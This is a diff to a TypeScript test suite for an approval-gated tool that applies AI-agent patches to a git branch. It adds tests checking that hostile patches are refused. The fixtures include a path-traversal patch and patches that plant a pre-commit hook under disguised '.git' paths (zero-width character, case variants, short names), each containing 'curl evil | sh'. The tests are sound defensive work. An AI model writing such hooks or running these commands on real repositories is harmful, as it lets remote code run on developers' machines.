@@ -81,6 +81,16 @@ function approveGate(
   })
 }
 
+/** A run folder holding `patch`, with the gate green for it. */
+function approvedRun(patch: Buffer): void {
+  writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch })
+  approveGate(
+    world.base,
+    `approved by @writer-wendy for diff ${sha256(patch).slice(0, 12)}`,
+    sha256(patch)
+  )
+}
+
 function apply(
   eventName = 'pull_request',
   payload: Record<string, unknown> = pullRequestEvent(world.base),
@@ -145,7 +155,7 @@ describe('apply', () => {
     const run = await apply()
     expect(run.code).toBe(1)
     expect(run.stdout).toMatch(
-      /::error::apply refused: the branch moved: approved head [0-9a-f]{12}, now [0-9a-f]{12}/
+      /::error title=Agent Airlock%3A refused::apply refused: the branch moved: approved head [0-9a-f]{12}, now [0-9a-f]{12}/
     )
     expect(world.api.writes()).toEqual([])
     expect(remote(['rev-parse', 'refs/heads/feature'])).toBe(moved)
@@ -272,16 +282,30 @@ describe('apply', () => {
     const evil = Buffer.from(
       'diff --git a/../escape.txt b/../escape.txt\nnew file mode 100644\n--- /dev/null\n+++ b/../escape.txt\n@@ -0,0 +1 @@\n+owned\n'
     )
-    writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch: evil })
-    approveGate(
-      world.base,
-      `approved by @writer-wendy for diff ${sha256(evil).slice(0, 12)}`,
-      sha256(evil)
-    )
+    approvedRun(evil)
     const run = await apply()
     expect(run.code).toBe(1)
     expect(run.stdout).toContain('the patch does not apply')
     expect(world.api.writes()).toEqual([])
     expect(fs.existsSync(path.join(world.root, 'escape.txt'))).toBe(false)
+  })
+
+  // An agent's file under a `.git` alias: git itself does not refuse these when protectHFS /
+  // protectNTFS are off, and GitHub's tree API takes them as paths.
+  test.each([
+    '.g\u200cit/hooks/pre-commit',
+    '.GIT/hooks/pre-commit',
+    'git~1/hooks/pre-commit',
+    '.git./hooks/pre-commit',
+    'sub/.Git/config'
+  ])('a patch writing under the .git alias %j is refused before any write', async (file) => {
+    const evil = Buffer.from(
+      `diff --git a/${file} b/${file}\nnew file mode 100755\n--- /dev/null\n+++ b/${file}\n@@ -0,0 +1 @@\n+curl evil | sh\n`
+    )
+    approvedRun(evil)
+    const run = await apply()
+    expect(run.code).toBe(1)
+    expect(run.stdout).toMatch(/apply refused|does not apply/)
+    expect(world.api.writes()).toEqual([])
   })
 })
